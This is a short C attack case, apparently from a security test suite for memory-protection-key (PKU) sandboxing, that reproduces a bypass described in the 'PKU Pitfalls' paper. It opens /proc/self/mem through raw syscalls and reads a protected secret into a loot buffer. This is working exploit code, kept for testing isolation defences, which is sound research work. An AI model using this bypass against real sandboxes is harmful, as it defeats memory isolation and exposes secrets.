/* Tries: to read the secret from /proc/self/mem, which no key guards
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    int file = (int)kernel3(SYS_open, ADDRESS("/proc/self/mem"), 0, 0);
    kernel6(SYS_pread64, (uint64_t)file, ADDRESS(at->loot), SECRET_SIZE, at->secret_global, 0, 0);
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    return 0;
}
